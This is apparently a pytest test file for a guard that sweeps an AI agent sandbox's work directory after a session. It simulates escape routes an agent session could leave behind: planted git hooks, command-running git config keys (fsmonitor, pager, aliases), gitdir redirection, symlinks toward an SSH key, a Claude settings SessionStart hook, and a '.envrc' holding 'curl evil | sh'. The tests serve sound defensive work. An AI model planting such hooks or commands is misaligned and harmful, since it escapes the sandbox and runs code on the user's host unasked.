"""The host-run guard's scan and sweep, on real repositories, without a session.

Each attack is what a session could leave in its workdir; after the sweep an
ordinary host ``git commit`` / ``git status`` must run nothing it planted (a
canary file the planted command would create), the agent's other work must be
intact, and no link the session made may have been followed.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from libbroker.launcher import hostrun_guard as guard
from libbroker.launcher.hostrun_fs import remove_tree
from libpolicy.hostrun import Table

GIT_ENV = {"GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t",
           "GIT_ALLOW_PROTOCOL": "file"}


def git(cwd: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, **GIT_ENV, "HOME": str(cwd.anchor)}
    env = {k: v for k, v in env.items() if not k.startswith("GIT_DIR")}
    return subprocess.run(["git", "-c", "protocol.file.allow=always", *args], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=60, check=check)


def hook_script(canary: Path, name: str) -> str:
    return f"#!/bin/sh\necho ran > {canary / name}\n"


def plant_hook(hooks: Path, canary: Path, name: str, hook: str = "pre-commit") -> None:
    hooks.mkdir(parents=True, exist_ok=True)
    (hooks / hook).write_text(hook_script(canary, name))
    (hooks / hook).chmod(0o755)


@pytest.fixture
def world(tmp_path: Path) -> tuple[Path, Path, Path]:
    """``(workdir, state, canary)``: a repository with a nested one and a submodule."""
    work, state, canary = tmp_path / "work", tmp_path / "state", tmp_path / "canary"
    canary.mkdir()
    lib = tmp_path / "lib"
    lib.mkdir()
    git(lib, "init", "-q")
    (lib / "l.txt").write_text("l")
    git(lib, "add", ".")
    git(lib, "commit", "-q", "-m", "lib")
    work.mkdir()
    git(work, "init", "-q")
    (work / "a.txt").write_text("a")
    (work / ".envrc").write_text("export A=1\n")
    (work / ".vscode").mkdir()
    (work / ".vscode/settings.json").write_text("{}\n")
    git(work, "submodule", "add", "-q", str(lib), "m")
    git(work, "add", ".")
    git(work, "commit", "-q", "-m", "init")
    (work / "sub").mkdir()
    git(work / "sub", "init", "-q")
    git(work / "sub", "commit", "-q", "--allow-empty", "-m", "s")
    return work, state, canary


def host_uses_git(work: Path) -> None:
    """What the person does next: commit and status in every repository."""
    for repo in (work, work / "sub", work / "m", work / "newrepo"):
        if (repo / ".git").exists():
            git(repo, "status", "--short", check=False)
            git(repo, "commit", "-q", "--allow-empty", "-m", "host", check=False)


def snapshot_and_sweep(work: Path, state: Path, attack: Callable[[], None],
                       tmp_path: Path, **kw: bool) -> list[str]:
    rt = tmp_path / "rt"
    rt.mkdir(exist_ok=True)
    guard.scan(str(work), Table(), runtime_dir=str(rt))
    attack()
    (work / "agent-work.txt").write_text("the agent's own work\n")
    snap = guard.load(str(rt))
    assert snap is not None
    lines = guard.sweep(snap, str(state), **kw)
    assert guard.sweep(snap, str(state), **kw) == []  # idempotent
    assert (work / "agent-work.txt").read_text() == "the agent's own work\n"
    return lines


def _attacks(work: Path, canary: Path, outside: Path) -> dict[str, Callable[[], None]]:
    def hook() -> None:
        plant_hook(work / ".git/hooks", canary, "hook")

    def hooks_path() -> None:
        plant_hook(work / "evil", canary, "hookspath")
        git(work, "config", "core.hooksPath", "evil")

    def fsmonitor() -> None:
        git(work, "config", "core.fsmonitor", f"echo ran > {canary / 'fsmonitor'}; false")

    def rename() -> None:
        os.rename(work / ".git", work / ".git-away")
        shutil.copytree(work / ".git-away", work / ".git", symlinks=True)
        plant_hook(work / ".git/hooks", canary, "rename")

    def rename_only() -> None:  # .git moved away, a planted one in its place
        os.rename(work / ".git", work / "stash")
        git(work, "init", "-q")
        plant_hook(work / ".git/hooks", canary, "rename-only")

    def commondir() -> None:
        shutil.copytree(work / ".git", work / ".gitc", symlinks=True)
        plant_hook(work / ".gitc/hooks", canary, "commondir")
        (work / ".git/commondir").write_text("../.gitc\n")

    def nested() -> None:
        plant_hook(work / "sub/.git/hooks", canary, "nested")

    def submodule() -> None:
        plant_hook(work / ".git/modules/m/hooks", canary, "submodule")
        git(work / "m", "config", "core.pager", f"echo ran > {canary / 'pager'}")

    def gitlink() -> None:
        shutil.copytree(work / "sub/.git", work / "subgit", symlinks=True)
        plant_hook(work / "subgit/hooks", canary, "gitlink")
        shutil.rmtree(work / "sub/.git")
        (work / "sub/.git").write_text("gitdir: ../subgit\n")

    def new_repo() -> None:
        (work / "newrepo").mkdir()
        git(work / "newrepo", "init", "-q")
        plant_hook(work / "newrepo/.git/hooks", canary, "newrepo")
        git(work / "newrepo", "config", "core.fsmonitor", f"echo ran > {canary / 'newfsm'}")
        git(work / "newrepo", "config", "alias.st", f"!echo ran > {canary / 'alias'}")

    def link_hooks() -> None:
        plant_hook(outside / "hooks", canary, "link-hooks")
        shutil.rmtree(work / ".git/hooks")
        os.symlink(outside / "hooks", work / ".git/hooks")

    def link_git() -> None:
        shutil.copytree(work / ".git", outside / "git", symlinks=True)
        plant_hook(outside / "git/hooks", canary, "link-git")
        os.rename(work / ".git", work / "moved")
        os.symlink(outside / "git", work / ".git")

    return {"hook": hook, "hooks_path": hooks_path, "fsmonitor": fsmonitor, "rename": rename,
            "rename_only": rename_only, "commondir": commondir, "nested": nested,
            "submodule": submodule, "gitlink": gitlink, "new_repo": new_repo,
            "link_hooks": link_hooks, "link_git": link_git}


ATTACKS = ["hook", "hooks_path", "fsmonitor", "rename", "rename_only", "commondir", "nested",
           "submodule", "gitlink", "new_repo", "link_hooks", "link_git"]


@pytest.mark.parametrize("name", ATTACKS)
def test_no_planted_command_runs_after_the_sweep(world: tuple[Path, Path, Path], name: str,
                                                 tmp_path: Path) -> None:
    work, state, canary = world
    outside = tmp_path / "outside"
    outside.mkdir()
    attack = _attacks(work, canary, outside)[name]
    lines = snapshot_and_sweep(work, state, attack, tmp_path)
    assert lines, "the sweep said nothing"
    for line in lines:
        assert line.startswith("agent-sandbox: ")
    host_uses_git(work)
    assert sorted(p.name for p in canary.iterdir()) == []
    assert git(work, "log", "--oneline").stdout.count("init") == 1  # the repository is whole
    assert (state / "quarantine").is_dir()


def test_the_attack_list_runs_without_the_sweep(world: tuple[Path, Path, Path],
                                               tmp_path: Path) -> None:
    """The same attacks do run when nothing sweeps: the canaries are real."""
    work, _, canary = world
    outside = tmp_path / "outside"
    outside.mkdir()
    attacks = _attacks(work, canary, outside)
    for name in ("hook", "nested", "submodule"):
        attacks[name]()
    host_uses_git(work)
    assert {"hook", "nested", "submodule"} <= {p.name for p in canary.iterdir()}
    attacks["commondir"]()  # hooks come from the common dir now
    git(work, "commit", "-q", "--allow-empty", "-m", "x")
    assert (canary / "commondir").exists()


ENTRIES = [".git/hooks", ".git/config", ".git/commondir", ".envrc", ".vscode",
           ".vscode/settings.json", ".gitmodules", ".git/modules/m/hooks",
           ".git/modules/m/config", "sub/.git/config", ".mcp.json", ".claude/settings.json",
           "sub/.git"]


@pytest.mark.parametrize("copy_only", [False, True], ids=["rename", "copy"])
@pytest.mark.parametrize("rel", ENTRIES)
def test_a_link_at_any_entry_is_moved_aside_never_written_through(
    world: tuple[Path, Path, Path], tmp_path: Path, rel: str, copy_only: bool
) -> None:
    work, state, _ = world
    target_dir = tmp_path / "secret"
    target_dir.mkdir()
    target = target_dir / "id_rsa"
    target.write_text("KEY\n")
    target.chmod(0o600)
    before = {p: p.read_bytes() for p in work.rglob("*") if p.is_file() and not p.is_symlink()
              and rel in str(p.relative_to(work))}

    def attack() -> None:
        path = work / rel
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        elif path.exists() or path.is_symlink():
            path.unlink()
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target if rel != ".vscode" else target_dir, path)

    if rel == "sub/.git":  # the attack deleted that repository: nothing to compare
        before = {}
    lines = snapshot_and_sweep(work, state, attack, tmp_path, copy_only=copy_only)
    named = (rel, os.path.dirname(rel))  # a link inside a held directory: the directory
    assert any(line.startswith(f"agent-sandbox: {n} [") for n in named for line in lines), lines
    assert target.read_text() == "KEY\n" and stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(os.listdir(target_dir)) == ["id_rsa"]
    assert not (work / rel).is_symlink()
    for path, data in before.items():
        assert path.read_bytes() == data, path
    moved = [p for p in (state / "quarantine").rglob("*") if p.is_symlink()]
    assert [os.readlink(p) for p in moved] in ([str(target)], [str(target_dir)])
    host_uses_git(work)


def test_a_link_above_an_entry_is_moved_aside(world: tuple[Path, Path, Path],
                                             tmp_path: Path) -> None:
    work, state, _ = world
    (work / ".claude").mkdir()
    (work / ".claude/settings.json").write_text('{"hooks": {}}\n')
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()

    def attack() -> None:
        (elsewhere / "settings.json").write_text('{"hooks": {"SessionStart": "evil"}}\n')
        shutil.rmtree(work / ".claude")
        os.symlink(elsewhere, work / ".claude")

    lines = snapshot_and_sweep(work, state, attack, tmp_path)
    assert not (work / ".claude").is_symlink()
    assert (work / ".claude/settings.json").read_text() == '{"hooks": {}}\n'
    assert "evil" in (elsewhere / "settings.json").read_text()  # not written through
    assert any(".claude" in line for line in lines)


def test_changed_and_new_entries_keep_the_sessions_version_aside(
    world: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    work, state, _ = world

    def attack() -> None:
        (work / ".envrc").write_text("curl evil | sh\n")
        (work / "pkg").mkdir()
        (work / "pkg/.envrc").write_text("new\n")
        (work / ".vscode/tasks.json").write_text("{}\n")

    lines = snapshot_and_sweep(work, state, attack, tmp_path)
    assert (work / ".envrc").read_text() == "export A=1\n"
    assert not (work / "pkg/.envrc").exists()
    assert not (work / ".vscode/tasks.json").exists()
    quarantined = {p.relative_to(state / "quarantine").parts[1:]: p.read_text()
                   for p in (state / "quarantine").rglob("*") if p.is_file()
                   and p.name != "sweep.log"}
    assert quarantined[(".envrc",)] == "curl evil | sh\n"
    assert quarantined[("pkg", ".envrc")] == "new\n"
    assert quarantined[(".vscode", "tasks.json")] == "{}\n"
    # Each line's command applies the session's version.
    line = next(x for x in lines if x.startswith("agent-sandbox: pkg/.envrc"))
    command = line.split("to apply the session's version: ", 1)[1]
    subprocess.run(["sh", "-c", command], check=True)
    assert (work / "pkg/.envrc").read_text() == "new\n"
    assert (state / "quarantine").rglob("sweep.log")


def test_a_new_repository_keeps_its_safe_config(tmp_path: Path) -> None:
    work = tmp_path / "w"
    work.mkdir()
    rt = tmp_path / "rt"
    rt.mkdir()
    snap = guard.scan(str(work), Table(), runtime_dir=str(rt))
    git(work, "init", "-q")
    git(work, "remote", "add", "origin", "https://example.com/x.git")
    git(work, "config", "filter.lfs.smudge", "evil")
    git(work, "config", "alias.co", "checkout")
    lines = guard.sweep(snap, str(tmp_path / "state"))
    assert any("filter.lfs.smudge" in line for line in lines)
    assert git(work, "config", "remote.origin.url").stdout.strip() == "https://example.com/x.git"
    assert git(work, "config", "alias.co").stdout.strip() == "checkout"
    assert git(work, "config", "filter.lfs.smudge", check=False).returncode == 1
    assert sorted(os.listdir(work / ".git/hooks")) == sorted(
        n for n in os.listdir(work / ".git/hooks") if n.endswith(".sample"))


def test_runs_commands_knows_the_keys() -> None:
    keys = ["core.hooksPath", "core.fsmonitor", "core.sshCommand", "core.pager", "core.editor",
            "filter.x.clean", "diff.x.textconv", "diff.external", "credential.helper",
            "include.path", "includeIf.gitdir:/x.path", "sequence.editor", "gpg.program",
            "url.ext::sh.insteadOf", "protocol.ext.allow", "pager.log", "merge.x.driver"]
    assert guard.runs_commands(keys) == keys
    assert guard.runs_commands(["user.name", "remote.origin.url", "branch.main.merge",
                                "core.bare", "submodule.m.url", "alias.co"]) == []


def test_scan_is_fast_and_bwrap_lists(tmp_path: Path, world: tuple[Path, Path, Path]) -> None:
    work, _, _ = world
    snap = guard.scan(str(work), Table())
    assert sorted(snap.repos) == [".git", ".git/modules/m", "sub/.git"]
    protect = guard.bwrap_protect(snap)
    assert str(work / ".git/hooks") in protect and str(work / ".git/config") in protect
    assert str(work / ".git/modules/m/hooks") in protect
    assert str(work / "sub/.git/config") in protect and str(work / ".envrc") in protect
    assert str(work / ".git/commondir") not in protect  # missing: nothing to bind
    assert guard.bwrap_pin(snap) == [str(work / r) for r in (".git", ".git/modules/m",
                                                             "sub/.git")]
    args = guard.bwrap_args(snap)
    assert args[:3] == ["--bind", str(work / ".git"), str(work / ".git")]


def plant_bare(dfd: int, name: str, config: str) -> None:
    """A bare repository by hand (git itself cannot name a path that deep)."""
    os.mkdir(name, dir_fd=dfd)
    fd = os.open(name, os.O_RDONLY, dir_fd=dfd)
    try:
        for sub in ("objects", "refs", "refs/heads"):
            os.mkdir(sub, dir_fd=fd)
        for fname, text in (("HEAD", "ref: refs/heads/main\n"), ("config", config)):
            out = os.open(fname, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
            os.write(out, text.encode())
            os.close(out)
    finally:
        os.close(fd)


def _deep(top: Path, depth: int) -> int:
    """An fd on the directory ``depth`` levels of ``d`` below ``top`` (made)."""
    fd = os.open(top, os.O_RDONLY)
    for _ in range(depth):  # deeper than PATH_MAX lets any one path name
        os.mkdir("d", dir_fd=fd)
        nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    return fd


@pytest.fixture
def deep_tmp() -> Iterator[Path]:
    """A temporary directory outside pytest's (whose clean-up would recurse), removed
    without recursion."""
    top = tempfile.mkdtemp(prefix="hostrun-deep-")
    try:
        yield Path(top)
    finally:
        fd = os.open(os.path.dirname(top), os.O_RDONLY)
        try:
            remove_tree(fd, os.path.basename(top))
        finally:
            os.close(fd)


@pytest.mark.parametrize("copy_only", [False, True], ids=["rename", "copy"])
def test_trees_1100_deep_are_walked_and_moved_aside(deep_tmp: Path, copy_only: bool) -> None:
    """No depth cap, no recursion, bounded fds: a repository planted 1100 levels down is
    found, and a held tree that deep moves aside whole even across filesystems."""
    work = deep_tmp / "w"
    work.mkdir()
    canary = deep_tmp / "canary"
    canary.mkdir()
    git(work, "init", "-q")
    snap = guard.scan(str(work), Table())
    fd = _deep(work / ".git", 1100)
    plant_bare(fd, "evil", f"[core]\n\tpager = echo ran > {canary}/pager\n")
    os.close(fd)
    os.close(_deep(work / ".git/hooks", 1100))
    lines = guard.sweep(snap, str(deep_tmp / "state"), copy_only=copy_only)
    assert any("names commands in its config (core.pager)" in line for line in lines), lines
    assert any(line.startswith("agent-sandbox: .git/hooks [git-hooks]") for line in lines)
    assert sorted(os.listdir(work / ".git/hooks")) == sorted(
        n for n in os.listdir(work / ".git/hooks") if n.endswith(".sample"))
    moved = deep_tmp / "state/quarantine" / snap.session / ".git/hooks"
    assert (moved / "d/d/d").is_dir()
    host_uses_git(work)
